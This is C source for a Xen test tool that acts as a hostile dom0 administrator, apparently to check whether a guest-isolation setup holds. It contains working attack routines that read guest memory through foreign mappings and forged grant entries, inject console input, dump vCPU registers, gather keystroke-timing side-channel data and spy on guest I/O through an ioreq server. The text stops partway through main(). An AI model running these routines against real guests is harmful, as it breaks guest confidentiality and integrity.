/* SPDX-License-Identifier: MIT */
/*
 * sc-xen-attack: a hostile dom0 administrator against a guest, for
 * check-xen.  Runs as root in dom0, on Debian's libxenctrl,
 * libxenforeignmemory and libxengnttab.
 *
 * Every attack is judged by what the attacker got, not by an error code:
 * a memory attack succeeds when the bytes it read contain MARKER, a string
 * the guest itself wrote into its console page; a vCPU attack succeeds when
 * it got the guest's registers.
 *
 *   sc-xen-attack DOMID suite pv|pvh FRAME MARKER
 *       every attack below against the guest, FRAME its console page (the
 *       frame number xenstore's console/ring-ref gives: an mfn for PV, a
 *       gfn for PVH).  Prints one line per attack:
 *         attack NAME: GOT (what)          the attack worked
 *         attack NAME: nothing (why)       it did not
 *         attack NAME: n/a (why)           it does not apply to this guest
 *       Exit 0 when every applicable attack worked, 1 when none did, 3 when
 *       some did, 2 on a setup error.
 *   sc-xen-attack DOMID hold-map FRAME
 *       maps FRAME of the guest and holds the mapping until killed
 *   sc-xen-attack DOMID seed-grant FRAME | unseed-grant
 *       writes (or clears) grant entry 7 of the guest, offering FRAME to
 *       dom0, through a mapping of its grant table (acquire_resource)
 *   sc-xen-attack DOMID hold-gnttab FRAME MARKER
 *       maps the guest's grant table (XENMEM_acquire_resource, writable, as
 *       any toolstack could), prints "holding" and holds it.  On SIGUSR1 it
 *       attacks through the mapping it held: writes grant entry 5 naming
 *       FRAME (the console page) for dom0, maps entry 5 and judges the bytes
 *       (attack gnttab-held-read), then types a line with a fresh nonce into
 *       the console's in[] and notifies the guest, and looks for the guest's
 *       echo of it in out[] (attack gnttab-held-inject); then exits.  On
 *       SIGTERM it lets go and exits.
 *   sc-xen-attack DOMID suspend
 *       SCHEDOP_remote_shutdown(SHUTDOWN_suspend) of the guest, as the
 *       toolstack's save does: its vCPUs stop where they are
 *   sc-xen-attack 0 tap FILE
 *       copies standard input to standard output and writes one line per
 *       read to FILE, "NS BYTES" (CLOCK_MONOTONIC): when each record reached
 *       dom0 (the relay's input), as an attacker with the relay's pipe sees
 *   sc-xen-attack DOMID watch SECONDS FILE
 *       polls XEN_DOMCTL_getvcpuinfo of vCPU 0 as fast as it answers for
 *       SECONDS and writes "NS CPU_TIME RUNNING BLOCKED" to FILE whenever
 *       one of them changed: the keystroke-timing attack's raw data
 *   sc-xen-attack DOMID hold-target
 *       makes an empty PV helper domain whose target is the guest
 *       (XEN_DOMCTL_set_target; Xen accepts only an HVM/PVH target), holds
 *       it until killed, then destroys it
 *   sc-xen-attack DOMID suite hvm FRAME MARKER
 *       the suite for an HVM guest (FRAME: its PV console page's gfn): the
 *       PVH attacks, then the device model's doors (below)
 *   sc-xen-attack DOMID ioreq-spy PORT MARKER
 *       a device model of dom0's own: an ioreq server with Xen's pages
 *       (acquire_resource, as QEMU's), claiming ports PORT..PORT+7, made
 *       before the bind and kept across it.  Prints "holding", then serves
 *       the guest's accesses to those ports until SIGTERM, and judges them
 *       (attack rep-io): it works when a string I/O hands it a guest
 *       address (data_is_ptr) and it reads MARKER through that address (the
 *       guest's `sc-guest-io outs` sends 8 bytes from a page that also holds
 *       MARKER, never sent); by value it gets the 8 bytes only.  MARKER "-":
 *       it works when it maps any guest page through an address it was
 *       handed (PORT 0x510: the firmware's fw_cfg reads, `rep insb`; the
 *       spy answers 0x5a, so that guest boots nothing)
 *   sc-xen-attack DOMID ioreq-legacy
 *       an ioreq server asked for its pages the legacy way (the gfns of
 *       get_ioreq_server_info, HVM_PARAM_IOREQ_PFN's route: Xen puts them
 *       in guest frames, which a device model then maps); prints the
 *       request page's guest frame, then "holding", and holds the server
 *       until killed, then destroys it.  The bind must refuse the domain
 *       while it exists.
 *   sc-xen-attack DOMID ps2-key [QMP-SOCKET]
 *       types "a" into the guest's PS/2 keyboard through QEMU's QMP socket
 *       (send-key; default /var/run/xen/qmp-libxenstat-DOMID): QEMU's i8042
 *       queues the scancode and raises IRQ 1 (dm_op); the guest side judges
 *       (its i8042 interrupt count, port 0x60)
 *
 * The attacks:
 *   foreign-map    map the console frame (privcmd: mmu_update or
 *                  add_to_physmap, as the caller's kind needs)
 *   grant-console  map grant entry 0, the console's (GNTTAB_RESERVED_CONSOLE)
 *   grant-seed     map the guest's grant table, write entry 7 offering the
 *                  console frame to dom0, map entry 7
 *   vcpu-context   XEN_DOMCTL_getvcpucontext: the guest's registers
 *   hvm-context    PVH guests: XEN_DOMCTL_gethvmcontext (CPU and device state)
 *   run-time       XEN_DOMCTL_getvcpuinfo polled for 2 s as fast as it answers:
 *                  works when it tells the vCPU's run state (running or
 *                  blocked) or its run time finer than 100 ms, what the
 *                  keystroke-timing attack of issue 16 reads
 *   pcpu-idle      XEN_SYSCTL_getcpuinfo: works when a pCPU's idle time comes
 *                  finer than 100 ms (when a guest ran, without naming it)
 * and for HVM guests, what a device model in dom0 can do:
 *   mapcache       map guest RAM the way QEMU's mapcache does (1 MiB buckets
 *                  of 256 gfns, xenforeignmemory_map, read-write), from gfn
 *                  0 up, and look for MARKER in it (at most 256 MiB, 60 s)
 *   dm-isa-irq     XEN_DMOP_set_isa_irq_level: raise and lower IRQ 1 (the
 *                  keyboard's), as QEMU's i8042 does
 *   dm-pci-intx    XEN_DMOP_set_pci_intx_level: INTA of 00:02.0
 *                  (each dm- attack works when Xen accepts it; check-xen also
 *                  judges IRQ 1 by the guest's own interrupt count)
 * and, by "sc-xen-attack DOMID dm-events" (last: it has crashed a running
 * guest on QEMU's emulated SVM):
 *   dm-msi         XEN_DMOP_inject_msi: vector 0x31 to APIC 0
 *   dm-event       XEN_DMOP_inject_event: external interrupt 0x31 on vCPU 0
 *   xl-dmesg       read Xen's console ring (what `xl dmesg` shows, where port
 *                  0xe9 ends up) and look for MARKER in it
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <time.h>

#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>

#include <xencall.h>
#include <xenctrl.h>
#include <xendevicemodel.h>
#include <xenevtchn.h>
#include <xenforeignmemory.h>
#include <xengnttab.h>
#include <xen/event_channel.h>
#include <xen/grant_table.h>
#include <xen/io/console.h>
#include <xen/memory.h>
#include <xen/hvm/dm_op.h>
#include <xen/hvm/ioreq.h>

#define SEED_REF 7
#define HELD_REF 5
#define PAGE 4096

static xc_interface *xch;
static xenforeignmemory_handle *fm;
static xengnttab_handle *gt;
static xendevicemodel_handle *dm;
static const char *marker;
static int worked, failed;

static int usage(void)
{
    fprintf(stderr, "usage: sc-xen-attack DOMID suite pv|pvh FRAME MARKER |\n"
                    "       DOMID hold-map FRAME | DOMID seed-grant FRAME |\n"
                    "       DOMID unseed-grant | DOMID hold-gnttab FRAME MARKER | DOMID suspend |\n"
                    "       DOMID hold-target | 0 tap FILE | DOMID watch SECONDS FILE |\n"
                    "       DOMID suite hvm FRAME MARKER | DOMID ioreq-spy PORT MARKER |\n"
                    "       DOMID ps2-key [QMP-SOCKET] | DOMID dm-events | DOMID ioreq-legacy\n");
    return 2;
}

static void got(const char *name, const char *what)
{
    printf("attack %s: GOT (%s)\n", name, what);
    worked++;
}

static void nothing(const char *name, const char *why, int err)
{
    printf("attack %s: nothing (%s%s%s)\n", name, why, err ? ": " : "",
           err ? strerror(err) : "");
    failed++;
}

/* Judges a page the attacker read: does it hold the guest's marker? */
static void judge_page(const char *name, const void *p)
{
    if (memmem(p, PAGE, marker, strlen(marker)))
        got(name, "the guest's marker in the console page");
    else
        nothing(name, "mapped, but no marker in the bytes", 0);
}

static void attack_foreign_map(uint32_t domid, xen_pfn_t frame)
{
    int err = 0;
    void *p = xenforeignmemory_map(fm, domid, PROT_READ, 1, &frame, &err);

    if (!p || err) {
        nothing("foreign-map", "map refused", p ? -err : errno);
        if (p)
            xenforeignmemory_unmap(fm, p, 1);
        return;
    }
    judge_page("foreign-map", p);
    xenforeignmemory_unmap(fm, p, 1);
}

static void attack_grant(const char *name, uint32_t domid, uint32_t ref)
{
    void *p = xengnttab_map_grant_ref(gt, domid, ref, PROT_READ);

    if (!p) {
        nothing(name, "grant map refused", errno);
        return;
    }
    judge_page(name, p);
    xengnttab_unmap(gt, p, 1);
}

/* Maps the guest's first shared grant frame, writable. */
static grant_entry_v1_t *grant_table(uint32_t domid, xenforeignmemory_resource_handle **res)
{
    void *addr = NULL;

    *res = xenforeignmemory_map_resource(fm, domid, XENMEM_resource_grant_table,
                                         XENMEM_resource_grant_table_id_shared, 0, 1,
                                         &addr, PROT_READ | PROT_WRITE, 0);
    return *res ? addr : NULL;
}

static int seed(uint32_t domid, xen_pfn_t frame, int on)
{
    xenforeignmemory_resource_handle *res;
    grant_entry_v1_t *e = grant_table(domid, &res);

    if (!e)
        return -1;
    if (on) {
        e[SEED_REF].domid = 0;
        e[SEED_REF].frame = (uint32_t)frame;
        __sync_synchronize();
        e[SEED_REF].flags = GTF_permit_access;
    } else {
        e[SEED_REF].flags = 0;
        __sync_synchronize();
        e[SEED_REF].frame = 0;
    }
    xenforeignmemory_unmap_resource(fm, res);
    return 0;
}

static void attack_grant_seed(uint32_t domid, xen_pfn_t frame)
{
    if (seed(domid, frame, 1) < 0) {
        nothing("grant-seed", "grant table map refused", errno);
        return;
    }
    attack_grant("grant-seed", domid, SEED_REF);
    (void)seed(domid, frame, 0);
}

/*
 * Notifies every event channel of dom0 connected to domid (its console's
 * among them) with a raw EVTCHNOP_send through privcmd, as root can: the
 * ports belong to xenconsoled and xenstored, not to this process.
 */
static int notify_guest(uint32_t domid)
{
    xencall_handle *xc = xencall_open(NULL, 0);
    evtchn_send_t *send;
    evtchn_port_t p;
    int n = 0;

    if (!xc)
        return 0;
    send = xencall_alloc_buffer(xc, sizeof(*send));
    for (p = 1; send && p < 4096; p++) {
        xc_evtchn_status_t st;

        memset(&st, 0, sizeof(st));
        st.dom = DOMID_SELF;
        st.port = p;
        if (xc_evtchn_status(xch, &st) || st.status != EVTCHNSTAT_interdomain ||
            st.u.interdomain.dom != domid)
            continue;
        send->port = p;
        if (xencall2(xc, __HYPERVISOR_event_channel_op, EVTCHNOP_send,
                     (uint64_t)(uintptr_t)send) == 0)
            n++;
    }
    if (send)
        xencall_free_buffer(xc, send);
    xencall_close(xc);
    return n;
}

/* Types line into the console's in[] and waits for the guest's echo in out[]. */
static void inject(uint32_t domid, volatile struct xencons_interface *c)
{
    char line[64], what[128];
    size_t i, len;
    XENCONS_RING_IDX prod;
    struct timespec ts = { 0, 200 * 1000 * 1000 };
    int tries;

    snprintf(line, sizeof(line), "sccrypt-injected-%08lx", (unsigned long)random());
    len = strlen(line);
    prod = c->in_prod;
    for (i = 0; i < len; i++)
        c->in[MASK_XENCONS_IDX(prod + i, c->in)] = line[i];
    __sync_synchronize();
    c->in_prod = prod + (XENCONS_RING_IDX)len;
    notify_guest(domid);
    for (tries = 0; tries < 50; tries++) {
        char out[sizeof(c->out) + 1];

        for (i = 0; i < sizeof(c->out); i++)
            out[i] = c->out[i] ? c->out[i] : ' ';
        out[sizeof(c->out)] = 0;
        if (strstr(out, line)) {
            snprintf(what, sizeof(what), "the guest echoed the injected %s", line);
            got("gnttab-held-inject", what);
            return;
        }
        if (tries % 10 == 9)
            notify_guest(domid);
        nanosleep(&ts, NULL);
    }
    nothing("gnttab-held-inject", "no echo of the injected line in out[]", 0);
}

/*
 * The grant-table mapping held across the bind: write entry HELD_REF naming
 * the console frame through it, map the entry, read and type.
 */
static void attack_held(uint32_t domid, grant_entry_v1_t *e, xen_pfn_t frame)
{
    void *p;

    e[HELD_REF].domid = 0;
    e[HELD_REF].frame = (uint32_t)frame;
    __sync_synchronize();
    e[HELD_REF].flags = GTF_permit_access;
    p = xengnttab_map_grant_ref(gt, domid, HELD_REF, PROT_READ | PROT_WRITE);
    if (!p) {
        nothing("gnttab-held-read", "grant map of the written entry refused", errno);
        nothing("gnttab-held-inject", "no mapping", 0);
    } else {
        judge_page("gnttab-held-read", p);
        inject(domid, p);
        xengnttab_unmap(gt, p, 1);
    }
    e[HELD_REF].flags = 0;
    __sync_synchronize();
    e[HELD_REF].frame = 0;
}

/* An empty PV domain (no memory, never run) whose target is the guest. */
static int make_helper(uint32_t domid, uint32_t *helper)
{
    struct xen_domctl_createdomain cfg;

    memset(&cfg, 0, sizeof(cfg));
    cfg.max_vcpus = 1;
    cfg.max_evtchn_port = 63;
    cfg.max_grant_frames = 1;
    cfg.max_maptrack_frames = 1;
    cfg.grant_opts = XEN_DOMCTL_GRANT_version(1);
    *helper = 0;
    if (xc_domain_create(xch, helper, &cfg))
        return -1;
    if (xc_domain_set_target(xch, *helper, domid)) {
        int e = errno;

        xc_domain_destroy(xch, *helper);
        errno = e;
        return -1;
    }
    return 0;
}

static void attack_vcpu_context(uint32_t domid)
{
    vcpu_guest_context_any_t c;
    char what[96];

    memset(&c, 0, sizeof(c));
    if (xc_vcpu_getcontext(xch, domid, 0, &c)) {
        nothing("vcpu-context", "getvcpucontext refused", errno);
        return;
    }
    if (!c.x64.user_regs.rip && !c.x64.ctrlreg[3]) {
        nothing("vcpu-context", "answered, but no registers in it", 0);
        return;
    }
    snprintf(what, sizeof(what), "the guest's registers: rip %#llx cr3 %#llx",
             (unsigned long long)c.x64.user_regs.rip,
             (unsigned long long)c.x64.ctrlreg[3]);
    got("vcpu-context", what);
}

static void attack_hvm_context(uint32_t domid)
{
    uint8_t *buf;
    int n = xc_domain_hvm_getcontext(xch, domid, NULL, 0);
    char what[64];

    if (n <= 0) {
        nothing("hvm-context", "gethvmcontext refused", errno);
        return;
    }
    buf = calloc(1, (size_t)n);
    if (!buf) {
        nothing("hvm-context", "out of memory", ENOMEM);
        return;
    }
    n = xc_domain_hvm_getcontext(xch, domid, buf, (uint32_t)n);
    if (n <= 0)
        nothing("hvm-context", "gethvmcontext refused", errno);
    else {
        snprintf(what, sizeof(what), "%d bytes of CPU and device state", n);
        got("hvm-context", what);
    }
    free(buf);
}

#define GRAIN_NS 100000000ULL

static void attack_run_time(uint32_t domid)
{
    struct timespec t0, t;
    unsigned long polls = 0, states = 0, fine = 0, changes = 0;
    uint64_t last = 0;
    char what[160];

    clock_gettime(CLOCK_MONOTONIC, &t0);
    do {
        xc_vcpuinfo_t vi;

        memset(&vi, 0, sizeof(vi));
        if (xc_vcpu_getinfo(xch, domid, 0, &vi)) {
            nothing("run-time", "getvcpuinfo refused", errno);
            return;
        }
        polls++;
        states += vi.running || vi.blocked;
        fine += vi.cpu_time % GRAIN_NS != 0;
        changes += polls > 1 && vi.cpu_time != last;
        last = vi.cpu_time;
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while ((t.tv_sec - t0.tv_sec) * 1000000000LL + (t.tv_nsec - t0.tv_nsec) < 2000000000LL);
    snprintf(what, sizeof(what), "%lu polls: run state in %lu, run time finer than 100 ms "
             "in %lu, %lu changes", polls, states, fine, changes);
    if (states || fine)
        got("run-time", what);
    else
        nothing("run-time", what, 0);
}

static void attack_pcpu_idle(void)
{
    xc_cpuinfo_t ci[64];
    int n = 0, i, fine = 0;
    char what[96];

    if (xc_getcpuinfo(xch, 64, ci, &n)) {
        nothing("pcpu-idle", "getcpuinfo refused", errno);
        return;
    }
    for (i = 0; i < n; i++)
        fine += ci[i].idletime % GRAIN_NS != 0;
    snprintf(what, sizeof(what), "%d of %d pCPUs' idle time finer than 100 ms", fine, n);
    if (fine)
        got("pcpu-idle", what);
    else
        nothing("pcpu-idle", what, 0);
}

/* ---- HVM: the device model's doors ----------------------------------- */

static volatile sig_atomic_t stop;
static void on_signal(int sig);

#define BUCKET 256              /* QEMU's mapcache: 1 MiB buckets on x86-64 */

static void attack_mapcache(uint32_t domid)
{
    xen_pfn_t pfns[BUCKET], max = 0;
    int errs[BUCKET];
    unsigned long mapped = 0, refused = 0, b;
    long long t0 = 0;
    struct timespec t;
    char what[160];

    if (xc_domain_maximum_gpfn(xch, domid, &max) < 0) {
        nothing("mapcache", "maximum_gpfn refused", errno);
        return;
    }
    if (max > 65535)
        max = 65535;            /* 256 MiB */
    clock_gettime(CLOCK_MONOTONIC, &t);
    t0 = t.tv_sec;
    for (b = 0; b <= max; b += BUCKET) {
        unsigned int i;
        uint8_t *p;

        for (i = 0; i < BUCKET; i++) {
            pfns[i] = b + i;
            errs[i] = 0;
        }
        p = xenforeignmemory_map(fm, domid, PROT_READ | PROT_WRITE, BUCKET, pfns, errs);
        if (!p) {
            refused += BUCKET;
            continue;
        }
        for (i = 0; i < BUCKET; i++) {
            if (errs[i]) {
                refused++;
                continue;
            }
            mapped++;
            if (memmem(p + (size_t)i * PAGE, PAGE, marker, strlen(marker))) {
                snprintf(what, sizeof(what), "the guest's marker at gfn %#lx, after "
                         "mapping %lu pages", (unsigned long)(b + i), mapped);
                xenforeignmemory_unmap(fm, p, BUCKET);
                got("mapcache", what);
                return;
            }
        }
        xenforeignmemory_unmap(fm, p, BUCKET);
        clock_gettime(CLOCK_MONOTONIC, &t);
        if (t.tv_sec - t0 > 60)
            break;
    }
    snprintf(what, sizeof(what), "%lu pages mapped, %lu refused, no marker", mapped,
             refused);
    nothing("mapcache", what, 0);
}

static void judge_dm(const char *name, int rc, int err, const char *what)
{
    if (rc)
        nothing(name, "dm_op refused", err);
    else
        got(name, what);
}

static void attack_dm(uint32_t domid)
{
    int rc, e;

    rc = xendevicemodel_set_isa_irq_level(dm, domid, 1, 1);
    e = errno;
    if (!rc)
        (void)xendevicemodel_set_isa_irq_level(dm, domid, 1, 0);
    judge_dm("dm-isa-irq", rc, e, "Xen raised the guest's IRQ 1 for dom0");
    rc = xendevicemodel_set_pci_intx_level(dm, domid, 0, 0, 2, 0, 1);
    e = errno;
    if (!rc)
        (void)xendevicemodel_set_pci_intx_level(dm, domid, 0, 0, 2, 0, 0);
    judge_dm("dm-pci-intx", rc, e, "Xen raised INTA of 00:02.0 for dom0");
}

/*
 * Kept apart from the suite: on QEMU's emulated SVM an event dom0 injects
 * into a running guest has crashed it (VMEXIT_INVALID), so check-xen runs
 * these last.
 */
static int dm_events(uint32_t domid)
{
    int rc;

    rc = xendevicemodel_inject_msi(dm, domid, 0xfee00000ULL, 0x31);
    judge_dm("dm-msi", rc, errno, "Xen delivered dom0's MSI (vector 0x31)");
    rc = xendevicemodel_inject_event(dm, domid, 0, 0x31, XEN_DMOP_EVENT_ext_int,
                                     ~0U, 0, 0);
    judge_dm("dm-event", rc, errno, "Xen queued dom0's interrupt 0x31 on vCPU 0");
    printf("attacks: %d worked, %d got nothing\n", worked, failed);
    return failed == 0 ? 0 : worked == 0 ? 1 : 3;
}

static void attack_xl_dmesg(void)
{
    static char buf[1 << 20];
    unsigned int n = sizeof(buf) - 1;

    if (xc_readconsolering(xch, buf, &n, 0, 0, NULL)) {
        nothing("xl-dmesg", "readconsolering refused", errno);
        return;
    }
    buf[n] = 0;
    if (memmem(buf, n, marker, strlen(marker)))
        got("xl-dmesg", "the guest's marker in Xen's console ring (port 0xe9)");
    else
        nothing("xl-dmesg", "no marker in Xen's console ring", 0);
}

/*
 * dom0's own device model.  Made before the bind (the bind admits an ioreq
 * server whose pages are Xen's), it serves the guest's port accesses.
 */
static int spy_outcome;         /* 0 nothing seen, 1 by value, 2 an address */

static void spy_judge_addr(uint32_t domid, const ioreq_t *r)
{
    xen_pfn_t gfn = (xen_pfn_t)(r->data >> 12);
    int err = 0;
    char what[200];
    void *p = xenforeignmemory_map(fm, domid, PROT_READ, 1, &gfn, &err);

    if (!p || err) {
        snprintf(what, sizeof(what), "handed guest address %#llx (%s), but the map "
                 "of it was refused: %s", (unsigned long long)r->data,
                 r->dir == IOREQ_READ ? "rep ins" : "rep outs",
                 strerror(p ? -err : errno));
        printf("spy: %s\n", what);
        if (p)
            xenforeignmemory_unmap(fm, p, 1);
        return;
    }
    if (!strcmp(marker, "-")) {
        snprintf(what, sizeof(what), "handed guest address %#llx by a %s of %u bytes, "
                 "mapped the guest's page through it",
                 (unsigned long long)r->data, r->dir == IOREQ_READ ? "rep ins" : "rep outs",
                 (unsigned)(r->count * r->size));
        got("rep-io", what);
    } else if (memmem(p, PAGE, marker, strlen(marker))) {
        snprintf(what, sizeof(what), "handed guest address %#llx by a %s of %u bytes, "
                 "read the guest's unsent marker through it",
                 (unsigned long long)r->data, r->dir == IOREQ_READ ? "rep ins" : "rep outs",
                 (unsigned)(r->count * r->size));
        got("rep-io", what);
    } else
        printf("spy: guest address %#llx (%s, %u bytes): mapped, no marker\n",
               (unsigned long long)r->data, r->dir == IOREQ_READ ? "rep ins" : "rep outs",
               (unsigned)(r->count * r->size));
    xenforeignmemory_unmap(fm, p, 1);
}

static int ioreq_spy(uint32_t domid, unsigned int port)
{
    xenforeignmemory_resource_handle *res = NULL;
    xenevtchn_handle *xce = NULL;
    shared_iopage_t *iop = NULL;
    evtchn_port_t local[8];
    unsigned int nv = 0, v, values = 0;
    ioservid_t id;
    xc_dominfo_t info;
    void *addr = NULL;
    char seen[64];
    size_t nseen = 0;
    int rc = 2;

    memset(seen, 0, sizeof(seen));
    if (xc_domain_getinfo(xch, domid, 1, &info) != 1 || info.domid != domid) {
        printf("refused: no such domain\n");
        return 2;
    }
    nv = info.max_vcpu_id + 1 > 8 ? 8 : info.max_vcpu_id + 1;
    if (xendevicemodel_create_ioreq_server(dm, domid, HVM_IOREQSRV_BUFIOREQ_OFF, &id)) {
        printf("refused: create_ioreq_server: %s\n", strerror(errno));
        return 1;
    }
    res = xenforeignmemory_map_resource(fm, domid, XENMEM_resource_ioreq_server, id,
                                        XENMEM_resource_ioreq_server_frame_ioreq(0), 1,
                                        &addr, PROT_READ | PROT_WRITE, 0);
    if (!res) {
        printf("refused: map of the ioreq page: %s\n", strerror(errno));
        goto out;
    }
    iop = addr;
    if (xendevicemodel_map_io_range_to_ioreq_server(dm, domid, id, 0, port, port + 7) ||
        xendevicemodel_set_ioreq_server_state(dm, domid, id, 1)) {
        printf("refused: claiming ports %#x-%#x: %s\n", port, port + 7, strerror(errno));
        goto out;
    }
    xce = xenevtchn_open(NULL, 0);
    if (!xce)
        goto out;
    for (v = 0; v < nv; v++) {
        xenevtchn_port_or_error_t l =
            xenevtchn_bind_interdomain(xce, domid, iop->vcpu_ioreq[v].vp_eport);

        if (l < 0) {
            printf("refused: binding vCPU %u's ioreq port: %s\n", v, strerror(errno));
            goto out;
        }
        local[v] = (evtchn_port_t)l;
    }
    {
        struct sigaction sa;

        memset(&sa, 0, sizeof(sa));
        sa.sa_handler = on_signal;
        sigaction(SIGTERM, &sa, NULL);
        sigaction(SIGINT, &sa, NULL);
    }
    printf("holding (ioreq server %u, ports %#x-%#x)\n", id, port, port + 7);
    fflush(stdout);
    while (!stop) {
        struct pollfd pfd = { xenevtchn_fd(xce), POLLIN, 0 };
        xenevtchn_port_or_error_t pp;

        if (poll(&pfd, 1, 200) <= 0)
            continue;
        pp = xenevtchn_pending(xce);
        if (pp < 0)
            continue;
        xenevtchn_unmask(xce, (evtchn_port_t)pp);
        for (v = 0; v < nv; v++) {
            ioreq_t *r = &iop->vcpu_ioreq[v];

            if (local[v] != (evtchn_port_t)pp || r->state != STATE_IOREQ_READY)
                continue;
            __sync_synchronize();
            r->state = STATE_IOREQ_INPROCESS;
            if (r->type == IOREQ_TYPE_PIO) {
                printf("spy: %s port %#llx size %u count %u data_is_ptr %u data %#llx\n",
                       r->dir == IOREQ_READ ? "in" : "out", (unsigned long long)r->addr,
                       r->size, r->count, r->data_is_ptr, (unsigned long long)r->data);
                if (r->data_is_ptr) {
                    spy_outcome = 2;
                    spy_judge_addr(domid, r);
                } else {
                    if (spy_outcome < 1)
                        spy_outcome = 1;
                    values++;
                    if (r->dir == IOREQ_WRITE && nseen + 1 < sizeof(seen))
                        seen[nseen++] = (char)r->data;
                    if (r->dir == IOREQ_READ)
                        r->data = 0x5a;
                }
            }
            __sync_synchronize();
            r->state = STATE_IORESP_READY;
            xenevtchn_notify(xce, local[v]);
        }
    }
    if (spy_outcome == 2)
        rc = 0;
    else {
        char what[160];

        snprintf(what, sizeof(what), "%u accesses by value, no guest address; bytes "
                 "written: \"%s\"", values, seen);
        nothing("rep-io", what, 0);
        rc = 1;
    }
 out:
    if (xce)
        xenevtchn_close(xce);
    (void)xendevicemodel_set_ioreq_server_state(dm, domid, id, 0);
    if (res)
        xenforeignmemory_unmap_resource(fm, res);
    (void)xendevicemodel_destroy_ioreq_server(dm, domid, id);
    return rc;
}

/* Reads from fd until a full JSON line arrives (or 5 s): 0, or -1. */
static int qmp_line(int fd, char *buf, size_t n)
{
    size_t o = 0;

    while (o + 1 < n) {
        struct pollfd pfd = { fd, POLLIN, 0 };
        ssize_t r;

        if (poll(&pfd, 1, 5000) <= 0)
            return -1;
        r = read(fd, buf + o, 1);
        if (r <= 0)
            return -1;
        if (buf[o++] == '\n')
            break;
    }
    buf[o] = 0;
    return 0;
}

static int qmp_cmd(int fd, const char *cmd, char *buf, size_t n)
{
    size_t len = strlen(cmd);

    if (write(fd, cmd, len) != (ssize_t)len)
        return -1;
    do {
        if (qmp_line(fd, buf, n) < 0)
            return -1;
    } while (strstr(buf, "\"event\""));
    return strstr(buf, "\"return\"") ? 0 : -1;
}

static int ps2_key(uint32_t domid, const char *path)
{
    struct sockaddr_un sa;
    char def[108], buf[4096];
    int fd, rc;

    if (!path) {
        snprintf(def, sizeof(def), "/var/run/xen/qmp-libxenstat-%u", domid);
        path = def;
    }
    memset(&sa, 0, sizeof(sa));
    sa.sun_family = AF_UNIX;
    snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
    fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
        printf("refused: %s: %s\n", path, strerror(errno));
        if (fd >= 0)
            close(fd);
        return 1;
    }
    rc = qmp_line(fd, buf, sizeof(buf)) < 0 ||
         qmp_cmd(fd, "{\"execute\":\"qmp_capabilities\"}\n", buf, sizeof(buf)) < 0 ||
         qmp_cmd(fd, "{\"execute\":\"send-key\",\"arguments\":{\"keys\":"
                     "[{\"type\":\"qcode\",\"data\":\"a\"}]}}\n", buf, sizeof(buf)) < 0;
    printf(rc ? "refused: QEMU said %s" : "sent\n", buf);
    close(fd);
    return rc;
}

static int suite(uint32_t domid, const char *kind, xen_pfn_t frame)
{
    int pv = !strcmp(kind, "pv"), hvm = !strcmp(kind, "hvm");

    if (!pv && !hvm && strcmp(kind, "pvh"))
        return usage();
    attack_foreign_map(domid, frame);
    attack_grant("grant-console", domid, 0);
    attack_grant_seed(domid, frame);
    attack_vcpu_context(domid);
    if (pv)
        printf("attack hvm-context: n/a (PV guest)\n");
    else
        attack_hvm_context(domid);
    attack_run_time(domid);
    attack_pcpu_idle();
    if (hvm) {
        attack_mapcache(domid);
        attack_dm(domid);
        attack_xl_dmesg();
    }
    printf("attacks: %d worked, %d got nothing\n", worked, failed);
    return failed == 0 ? 0 : worked == 0 ? 1 : 3;
}

static long long mono_ns(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000LL + t.tv_nsec;
}

static int tap(const char *path)
{
    FILE *f = fopen(path, "w");
    char buf[65536];

    if (!f) {
        fprintf(stderr, "sc-xen-attack: %s: %s\n", path, strerror(errno));
        return 2;
    }
    for (;;) {
        ssize_t n = read(0, buf, sizeof(buf)), off = 0;

        if (n < 0 && errno == EINTR)
            continue;
        if (n <= 0)
            break;
        fprintf(f, "%lld %zd\n", mono_ns(), n);
        fflush(f);
        while (off < n) {
            ssize_t w = write(1, buf + off, (size_t)(n - off));

            if (w < 0 && errno == EINTR)
                continue;
            if (w <= 0) {
                fclose(f);
                return 1;
            }
            off += w;
        }
    }
    return fclose(f) ? 1 : 0;
}

static int watch(uint32_t domid, long seconds, const char *path)
{
    FILE *f = fopen(path, "w");
    long long end = mono_ns() + seconds * 1000000000LL, now;
    xc_vcpuinfo_t last;
    int first = 1;

    if (!f) {
        fprintf(stderr, "sc-xen-attack: %s: %s\n", path, strerror(errno));
        return 2;
    }
    memset(&last, 0, sizeof(last));
    while ((now = mono_ns()) < end) {
        xc_vcpuinfo_t vi;

        memset(&vi, 0, sizeof(vi));
        if (xc_vcpu_getinfo(xch, domid, 0, &vi))
            break;
        if (first || vi.cpu_time != last.cpu_time || vi.running != last.running ||
            vi.blocked != last.blocked)
        {
            fprintf(f, "%lld %llu %u %u\n", now, (unsigned long long)vi.cpu_time,
                    (unsigned)vi.running, (unsigned)vi.blocked);
            fflush(f);                  /* the test stops it with a signal */
        }
        first = 0;
        last = vi;
    }
    return fclose(f) ? 1 : 0;
}

static void on_signal(int sig)
{
    stop = sig;
}

/* Holds until SIGTERM or SIGINT (or SIGUSR1 when usr1); returns the signal. */
static int wait_for_signal(int usr1)
{
    struct sigaction sa;

    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_signal;
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    if (usr1)
        sigaction(SIGUSR1, &sa, NULL);
    printf("holding\n");
    fflush(stdout);
    while (!stop)
        pause();
    return stop;
}

int main(int argc, char **argv)
{
    unsigned long domid;
    xen_pfn_t frame = 0;
    char *end;
    int rc = 2;

    if (argc < 3)
        return usage();
    domid = strtoul(argv[1], &end, 10);
    if (*end || domid >= DOMID_FIRST_RESERVED)
        return usage();
    if (!strcmp(argv[2], "tap") && argc == 4)
        return tap(argv[3]);            /* needs no Xen interface (runs as op) */
    xch = xc_interface_open(NULL, NULL, 0);
    fm = xenforeignmemory_open(NULL, 0);
    gt = xengnttab_open(NULL, 0);
    dm = xendevicemodel_open(NULL, 0);
    if (!xch || !fm || !gt || !dm) {
        fprintf(stderr, "sc-xen-attack: cannot open the Xen interfaces: %s\n",
                strerror(errno));
        return 2;
